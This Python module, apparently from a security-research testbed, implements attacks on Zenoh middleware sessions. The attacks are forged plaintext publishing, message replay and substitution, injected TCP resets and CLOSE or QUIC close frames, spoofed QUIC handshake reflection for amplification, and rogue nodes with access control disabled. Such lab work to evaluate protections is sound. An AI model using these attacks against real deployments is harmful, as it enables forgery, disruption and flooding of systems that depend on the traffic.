"""Zenoh 1.x: sessions over TCP, TLS and QUIC, and rights by the common name in a certificate."""

import secrets
from collections.abc import Callable, Sequence
from dataclasses import replace
from functools import partial
from socket import socket
from typing import TYPE_CHECKING

from comseclab.attack import forged, tcp
from comseclab.attack.base import Rogue
from comseclab.attack.dialect import NONE, Dialect, Prepared, Setting
from comseclab.attack.dialects import zenoh_session as session
from comseclab.attack.frame import TCP, TCP_SYN, UDP, Frame, udp_frame
from comseclab.attack.path import passes
from comseclab.middleware import zenoh
from comseclab.middleware.base import Material, Place
from comseclab.protection import tls
from comseclab.testbed.network import hardware_of
from comseclab.trial.spec import Factors

if TYPE_CHECKING:
    from comseclab.attack.scene import Scene

LONG_HEADER = 0x80
"""First bit of a QUIC packet of a handshake (RFC 9000, 17.2)."""
FULL_PACKET = 1000
"""Bytes. A message of the stream fills several QUIC packets but the last; acknowledgements are much shorter."""


CONNECTION_ID = 8
"""Bytes; of the identifiers that Zenoh's QUIC chooses. Only a datagram that bears one gets to its connection."""
EVERY = 4
"""One message in so many is replaced by an old one."""
REPLAYED = 40
FORGED = 5
"""Messages said in clear."""
PATIENCE_S = 0.5
"""For an answer that whoever lets the attacker in owes him."""
WRITER_PORT, READER_PORT = zenoh.FIRST_PORT, zenoh.FIRST_PORT + 1
"""Where the nodes of the attacked stream listen; it is the trial's only one."""


class Zenoh(Dialect):
    stacks = ("zenoh",)
    authorities = tls.AUTHORITIES
    silences = {  # noqa: RUF012
        "close": "a CLOSE of the session in clear; of QUIC, a datagram like a CONNECTION_CLOSE or stateless reset",
        "reset": "a TCP reset in the publisher's name",
    }

    def refuse(self, attack: str, factors: Factors) -> str | None:
        if attack == "self-signed-permissions":
            return "a node of Zenoh goes by rules of its own; nobody brings permissions along"
        quic = zenoh.LEVELS[factors.protection].carrier == "quic"
        if attack == "silence-reset" and quic:
            return "QUIC knows no TCP reset"
        if attack == "reflection" and quic:
            return None
        return super().refuse(attack, factors)

    def prepare(self, setting: Setting) -> Prepared:
        """Certificates for the genuine nodes and for insiders; rules for the genuine and those that are permitted."""
        spec, folder = setting.spec, setting.folder
        rogues = setting.rogues.items()
        insiders = [place for rogue, place in rogues if rogue.credentials in ("no-permission", "permitted")]
        permitted = [place for rogue, place in rogues if rogue.credentials == "permitted"]
        certified = tls.with_insiders(
            zenoh.certificates(spec, setting.places, folder), spec.protection, insiders, folder
        )
        known = zenoh.nodes_of(spec, (*setting.places, *permitted), certified)
        genuine = known[: len(setting.places)]
        material = zenoh.configured(
            {node: zenoh.configuration(spec, node, known) for node in genuine}, certified, folder
        )
        settings = {}
        for rogue, place in rogues:
            own = _rogue(setting, rogue, place, certified)
            settings[rogue] = {**setting.middleware.node_settings(spec, place, own), "announce": False}
        return Prepared(material, settings)

    def is_message(self, frame: Frame, scene: "Scene") -> bool:
        """A TCP segment with most of a message, in clear or in a TLS record; of QUIC, any full packet.

        A message is several QUIC packets, and nobody on the path can tell which ones make one.
        """
        if frame.source[0] != scene.writer.address or frame.destination[0] != scene.reader.address:
            return False
        payload = frame.payload
        if frame.protocol == UDP:
            return len(payload) > FULL_PACKET and not payload[0] & LONG_HEADER
        return frame.protocol == TCP and len(payload) > scene.spec.trial.streams[0].max_size // 2

    def forge(self, scene: "Scene") -> None:
        """Open a session over plain TCP at the subscriber's own port under any protection, and publish in it.

        So under QUIC too, which has no form in clear of its own (RFC 9001): who insists on it takes no TCP there.
        """
        scene.apart(_to_subscriber, scene, partial(_publish, scene))

    def replay(self, scene: "Scene", *, resequenced: bool) -> None:
        """As they were: in the connection they came in, and to the subscriber's own port in a connection made anew.

        Numbered anew: in place of messages now in flight, with their numbers of TCP, and with those of Zenoh in clear.
        """
        if resequenced:
            old = [frame.payload for frame in scene.messages()][-REPLAYED:]
            scene.on_messages(_Substitute(scene, old))
            return
        super().replay(scene, resequenced=False)
        if zenoh.LEVELS[scene.spec.trial.protection.base].carrier != "quic":
            scene.apart(_to_subscriber, scene, partial(_replay_anew, scene))

    def silence(self, scene: "Scene", message: str) -> None:
        if message == "reset":
            tcp.reset(scene)
        else:
            _close(scene)

    def reflect(self, scene: "Scene") -> None:
        """Send the first datagram of the recorded QUIC handshake to the node that did not get it, from the bystander.

        Its keys follow from itself (RFC 9001, 5.2), so any server answers it, with at most three times what it got
        (RFC 9000, 8.1).
        """
        sent = (frame for frame in list(scene.path.seen) if frame.protocol == UDP and frame.payload[:1] >= b"\xc0")
        hello = next(sent, None)
        if hello is None:
            scene.note("no QUIC handshake was seen, nothing was sent")
            return
        asked, port = scene.reader, READER_PORT
        if hello.destination[0] == scene.reader.address:
            asked, port = scene.writer, WRITER_PORT
        ends = hardware_of(scene.attacker.address), hardware_of(asked.address)
        source = scene.hosts["bystander"].address, zenoh.FIRST_PORT
        scene.inject(udp_frame(ends, source, (asked.address, port), hello.payload))


class _Substitute:
    """What goes on in place of messages in flight: an old one in place of every fourth."""

    def __init__(self, scene: "Scene", old: Sequence[bytes]) -> None:
        self._scene, self._old, self._seen = scene, old, 0

    def __call__(self, frame: Frame) -> list[tuple[float, Frame]]:
        self._seen += 1
        current = frame.payload
        fitting = [payload for payload in self._old if len(payload) == len(current)]
        if self._seen % EVERY or not fitting:
            return [(0.0, frame)]
        old = fitting[self._seen // EVERY % len(fitting)]
        begin = 0
        if self._scene.spec.trial.protection.base == "none":
            begin = session.payload_at(current) or 0
        return [(0.0, frame.with_payload(current[:begin] + old[begin:]))]


def _to_subscriber(scene: "Scene", speak: Callable[[socket], None]) -> None:
    """Have `speak` use a TCP connection of the attacker's own, which is kept open until the attack ends.

    A refusal is noted. Raises TimeoutError when nobody answers.
    """
    try:
        with scene.connect(scene.reader.address, READER_PORT, PATIENCE_S) as connection:
            speak(connection)
            scene.ended.wait()
    except (ConnectionError, ValueError) as error:
        scene.note(f"{scene.reader.address}:{READER_PORT}: {error}")


def _publish(scene: "Scene", connection: socket) -> None:
    """Say forged messages in a session opened in clear."""
    trial = scene.spec.trial
    session.open_session(connection, partial(scene.say, connection), first=0)
    message = forged.from_spool(trial, trial.streams[0], scene.spec.forged_nonce, trial.factors.codec)
    for sequence in range(FORGED):
        scene.say(connection, session.put(sequence, _key(scene), message))
    scene.note(f"a session in clear was opened, {FORGED} forged messages said in it")


def _replay_anew(scene: "Scene", connection: socket) -> None:
    """Say all that the writer said to the subscriber.

    In clear it opens a session by its own name, as the cookie of a session is good for one connection only, and has it
    begin with the number that the recorded session began with. What follows is said byte by byte, but for the number by
    which the subscriber calls the key, which may differ from session to session.
    """
    stream = _said(scene.path.seen, scene.writer.address, scene.reader.address)
    if scene.spec.trial.protection.base == "none":
        _opening, opened, *recorded = session.batches(stream)
        session.open_session(connection, partial(scene.say, connection), session.first_number(opened))
        number = session.number_of_key(connection, _key(scene))
        stream = b"".join(session.batch(session.renamed(one, number)) for one in recorded)
    scene.say(connection, stream)
    scene.note(f"{len(stream)} recorded bytes said to {scene.reader.address}:{READER_PORT}")


def _key(scene: "Scene") -> str:
    stream = scene.spec.trial.streams[0]
    return zenoh.key(stream.topic, opaque=not stream.type, codec=scene.spec.trial.factors.codec)


def _said(seen: Sequence[Frame], sender: str, receiver: str) -> bytes:
    """What one host said to another in their first TCP connection, put together by sequence numbers."""
    said: dict[int, bytes] = {}
    first: tuple[int, int, int] | None = None
    for frame in list(seen):
        if frame.protocol != TCP or (frame.source[0], frame.destination[0]) != (sender, receiver):
            continue
        if first is None and frame.tcp_flags & TCP_SYN:
            first = frame.source[1], frame.destination[1], frame.tcp_number + 1
        if first and (frame.source[1], frame.destination[1]) == first[:2] and frame.payload:
            said.setdefault((frame.tcp_number - first[2]) % (1 << 32), frame.payload)
    stream = b""
    for at in sorted(said):
        if at > len(stream):
            break
        stream += said[at][len(stream) - at :]
    return stream


def _close(scene: "Scene") -> None:
    """Just before the next message: in a TCP connection the bytes of a CLOSE, with the number that is expected next."""

    def rule(frame: Frame) -> list[tuple[float, Frame]]:
        if scene.dialect.is_message(frame, scene):
            scene.follow(passes)
            scene.inject_on_path(_closing(frame))
            scene.note(f"CLOSE to {frame.destination[0]}:{frame.destination[1]} in the name of {frame.source[0]}")
        return [(0.0, frame)]

    scene.follow(rule)


def _closing(frame: Frame) -> Frame:
    """A CLOSE at the place of a message.

    Of QUIC, whoever does not know the keys can but write a packet of the connection's with a frame CONNECTION_CLOSE
    (RFC 9000, 19.19) in clear, and a made-up token behind it, as a stateless reset has (10.3).
    """
    if frame.protocol == UDP:
        header = frame.payload[: 1 + CONNECTION_ID + 4]
        said = header + bytes((0x1C, 0, 0, 0)) + secrets.token_bytes(32)
        return frame.with_payload(said)
    head = len(frame.raw) - len(frame.payload)
    return replace(frame, raw=frame.raw[:head]).with_payload(session.batch(session.SESSION_CLOSED))


def _rogue(setting: Setting, rogue: Rogue, place: Place, certified: Material) -> Material:
    """A node of the attacker's connects to the genuine ones and asks nobody's leave.

    A peer, or whoever announces what it writes, sends nothing to nodes that do not declare to it that they read, and
    access control hides these declarations. This one is a client and announces nothing, so what it writes goes out.

    An outsider shows no certificate. It knows the authority's, which is public, to accept its victims by.
    """
    spec, nodes = setting.spec, zenoh.nodes_of(setting.spec, (*setting.places, place), certified)
    known = spec if place.node in certified.files else spec.model_copy(update={"protection": NONE})
    content = zenoh.configuration(known, nodes[-1], nodes)
    content["mode"] = "client"
    content["listen"]["endpoints"] = []
    content["access_control"] = {"enabled": False}
    if rogue.credentials == "none" and certified.files:
        authority = next(iter(certified.files.values()))["identity_ca"]
        content["transport"]["link"]["tls"] = {"root_ca_certificate": str(authority), "verify_name_on_connect": False}
    return zenoh.configured({nodes[-1]: content}, Material(), setting.folder)


DIALECT = Zenoh()
